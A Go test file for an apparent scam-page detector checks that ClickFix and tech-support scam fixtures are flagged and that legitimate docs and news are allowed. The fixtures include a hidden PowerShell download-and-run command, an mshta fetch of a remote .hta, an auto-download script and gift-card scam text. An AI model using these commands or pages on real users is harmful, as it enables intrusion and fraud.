package analysis

import (
	"strings"
	"testing"

	"github.com/alertguard/alertguard/internal/judging/snapshot"
	"github.com/alertguard/alertguard/internal/judging/verdict"
)

// TestIssue12Cases: the pages issue 12 names, written small. Legitimate
// pages that quote the scam must not be blocked; scams told in other
// words must be flagged; runtime truth decides where it is decisive.
func TestIssue12Cases(t *testing.T) {
	a, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	flagged := func(d string) bool { return d != verdict.Allow }
	allowed := func(d string) bool { return d == verdict.Allow }
	notBlocked := func(d string) bool { return d != verdict.Block }
	blocked := func(d string) bool { return d == verdict.Block }
	tests := []struct {
		name, url, html string
		events          []snapshot.Event
		want            func(string) bool
		noPhones        bool
	}{
		{name: "developer docs with a copy button for irm | iex", url: "https://docs.example-tool.dev/install",
			html: `<html><head><title>Install ExampleTool</title></head><body><article><h1>Installation</h1>
<p>Open PowerShell and paste the following command, then press Enter. It downloads the installer from our servers and verifies its signature.</p>
<pre><code id=c>irm https://get.example-tool.dev/install.ps1 | iex</code></pre><button onclick="navigator.clipboard.writeText(document.getElementById('c').textContent)">Copy</button>
<p>On macOS, open Terminal and run:</p><pre><code>curl -fsSL https://get.example-tool.dev/install.sh | sh</code></pre></article></body></html>`,
			events: []snapshot.Event{{Type: "clipboard-write", Count: 1, Gesture: true, Detail: "irm https://get.example-tool.dev/install.ps1 | iex"}},
			want:   notBlocked},
		{name: "researchers explain ClickFix quoting Win+R and powershell", url: "https://research.example-security.com/clickfix",
			html: `<html><head><title>ClickFix: how fake CAPTCHAs trick users</title><meta property="og:type" content="article"></head><body><article>
<h1>ClickFix campaigns abuse fake CAPTCHA pages</h1><p class=byline>By A. Researcher, published 2026-03-02</p>
<p>Researchers observed a campaign in which attackers show a fake "I'm not a robot" check. The page tells the victim: "Press Win+R, press Ctrl+V and press Enter".</p>
<p>The copied command is powershell -w hidden -c "iex(irm hxxps://evil[.]example)". Never paste commands from a web page. This is a scam.</p>
<p>The C2 server at 178.16.53.70 served the second stage.</p></article></body></html>`,
			want: notBlocked, noPhones: true},
		{name: "japanese fake Chrome error with other alarm words and a free-dial number", url: "https://chrome-error.example.top/",
			html: `<html lang=ja><head><title>Google Chrome の重大なエラー</title></head><body><h1>Google Chrome の重大なエラー</h1>
<p>お使いのパソコンのシステムが破損しています。個人情報が流出する恐れがあります。不審なソフトウェアが見つかりました。エラー番号: 0x80070424</p>
<p>今すぐサポートセンターにお電話ください：0120-000-123（通話無料）</p></body></html>`,
			want: flagged},
		{name: "a number only in the title and an image's alt text", url: "https://secure-alert.example.top/",
			html: `<html><head><title>Microsoft Security Alert - Call 1-888-555-0199</title></head><body><img src="alert.png" alt="Windows Defender: your computer is infected, call 1-888-555-0199 toll free"></body></html>`,
			want: flagged},
		{name: "a fake browser window drawn in the page with a number", url: "https://win-support.example.top/",
			html: `<html><head><title>Support</title></head><body><div class="fake-browser"><div class="address-bar"><span>https://www.microsoft.com/en-us/security</span></div>
<h1>Windows Defender Security Center</h1><p>Your PC is infected with 3 viruses. Call Microsoft Support: +1-844-555-0123</p></div></body></html>`,
			want: flagged},
		{name: "remote repair: install AnyDesk, pay with gift cards or at a convenience store", url: "https://pc-repair-center.example.top/",
			html: `<html lang=ja><head><title>パソコン遠隔修理センター</title></head><body><h1>遠隔修理を開始します</h1>
<p>お使いのパソコンに問題が見つかりました。担当者が遠隔操作で修理します。下のボタンから AnyDesk をインストールして、表示された9桁の番号を担当者にお伝えください。</p>
<p>修理料金 29,800円は Google Play ギフトカード、Apple ギフトカード、Amazon ギフト券、またはコンビニ払いでお支払いください。カードの番号を担当者に読み上げてください。</p>
<a href="AnyDesk.exe">AnyDesk をダウンロード</a></body></html>`,
			want: flagged},
		{name: "a fake Windows update that downloads an .exe with a countdown", url: "https://win-update.example.top/",
			html: `<html><head><title>Windows Update</title></head><body><h1>Critical Windows update required</h1>
<p>Your system is out of date. The update will download automatically in <span id=t>10</span> seconds.</p>
<a id=d href="WindowsUpdate.exe" download>Download update</a>
<script>var n=10;setInterval(function(){n--;document.getElementById('t').textContent=n;if(n==0)document.getElementById('d').click();},1000);</script></body></html>`,
			want: flagged},
		{name: "a security vendor's own Japanese support page naming another brand and ウイルス", url: "https://www.trendmicro.com/ja_jp/contact/support.html",
			html: `<html lang=ja><head><title>お問い合わせ窓口 | トレンドマイクロ</title></head><body><nav>製品 サポート 会社情報</nav><h1>サポートセンターへのお問い合わせ</h1>
<p>ウイルスバスターの製品について、ウイルス感染の疑いや Microsoft Windows の更新後に起きた問題などのご相談を承ります。</p>
<p>電話: 0120-000-310（受付時間 平日 9:30〜17:30、土日祝を除く）</p><p>トレンドマイクロ株式会社 東京都渋谷区代々木 0-0-0</p>
<footer>プライバシーポリシー 利用規約 © Trend Micro Incorporated</footer></body></html>`,
			want: notBlocked},
		{name: "a vendor's research blog with malware words and a sales number in the footer", url: "https://www.example-security-research.com/blog/stealer",
			html: `<html><head><title>New infostealer spreads through fake updates | Research blog</title><meta property="og:type" content="article"></head><body><article>
<h1>New infostealer spreads through fake browser updates</h1><p class=byline>By the research team, 2026-10-14</p>
<p>The trojan steals passwords and crypto wallets. Infected machines contact 178.16.53.70 and 45.9.74.12. The ransomware stage encrypts files.</p>
<p>Indicators of compromise: SHA-256 3f2a…, version 2.4.1, build 2026.10.1.</p></article>
<footer>Talk to sales: 1-800-555-0142 · Privacy · Terms</footer></body></html>`,
			want: notBlocked, noPhones: true},
		{name: "a Japanese security news article is left alone", url: "https://www.itmedia.co.jp/news/articles/2611/25/news001.html",
			html: `<html lang=ja><head><title>「ウイルスに感染しました」偽警告に注意　サポート詐欺の相談が増加 - ITmedia NEWS</title><meta property="og:type" content="article"></head><body><article>
<h1>「ウイルスに感染しました」偽警告に注意　サポート詐欺の相談が増加</h1><p class=byline>2026年11月25日 10時00分 公開 [ITmedia]</p>
<p>IPAによると、ブラウザに「ウイルスに感染しました」「今すぐお電話ください」などの偽の警告を表示し、電話をかけさせるサポート詐欺の相談が増えている。</p>
<p>偽警告には「050」で始まる番号が表示され、電話をかけると遠隔操作ソフトのインストールや電子マネーでの支払いを求められる。IPAは「表示された番号には電話しないで」と呼びかけている。</p>
<p>偽の警告画面はブラウザを閉じれば消える。閉じられない場合はパソコンを再起動するよう勧めている。</p></article>
<footer>関連記事 ランキング 会社概要 プライバシーポリシー</footer></body></html>`,
			want: allowed},
		{name: "a hidden command on the clipboard is decisive", url: "https://cdn-check.example.top/",
			html:   `<html><body><p>Checking your browser…</p></body></html>`,
			events: []snapshot.Event{{Type: "clipboard-write", Count: 1, Detail: `mshta https://x.example.top/a.hta`}},
			want:   blocked},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := a.Analyze(&snapshot.Snapshot{URL: tt.url, HTML: tt.html, Events: tt.events})
			if !tt.want(v.Decision) {
				t.Fatalf("%s %d %v", v.Decision, v.Score, v.SignatureIDs())
			}
			for _, p := range v.Phones {
				if tt.noPhones || strings.Contains(p.Display, "178.16") {
					t.Errorf("reported %q as a number to call", p.Display)
				}
			}
		})
	}
}

// TestClipboardWriteOnFakeCheck: a fake CAPTCHA whose command is built at
// run time and copied through a copy event (the browser may not be able to
// read what was copied) is blocked on the write it saw; a documentation
// page's copy button with "paste in a terminal" is not.
func TestClipboardWriteOnFakeCheck(t *testing.T) {
	a, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	captcha := `<html><head><title>Just a moment...</title></head><body><h1>Checking your connection</h1>
<label><input type="checkbox" id="robot"> I am not a robot</label><div id="steps">Verification steps: 1. Press Win+R 2. Press Ctrl+V 3. Press Enter</div>
<script>const cmd = ['power', 'shell -w hidden'].join('');</script></body></html>`
	copied := []snapshot.Event{{Type: "clipboard-write", Count: 1, Gesture: true, Detail: "Checking your connection"}}
	if v := a.Analyze(&snapshot.Snapshot{URL: "https://check.example.top/", HTML: captcha, Events: copied}); v.Decision != verdict.Block {
		t.Fatalf("fake check: %s %d %v", v.Decision, v.Score, v.SignatureIDs())
	}
	docs := `<html><head><title>Install</title></head><body><h1>Install ExampleTool</h1><p>Open a terminal, paste the command and press Enter.</p>
<pre><code>curl -fsSL https://get.example-tool.dev/install.sh | sh</code></pre><button onclick="navigator.clipboard.writeText('x')">Copy</button></body></html>`
	shown := []snapshot.Event{{Type: "clipboard-write", Count: 1, Gesture: true, Detail: "curl -fsSL https://get.example-tool.dev/install.sh | sh"}}
	if v := a.Analyze(&snapshot.Snapshot{URL: "https://docs.example-tool.dev/", HTML: docs, Events: shown}); v.Decision == verdict.Block {
		t.Fatalf("documentation page blocked: %d %v", v.Score, v.SignatureIDs())
	}
}
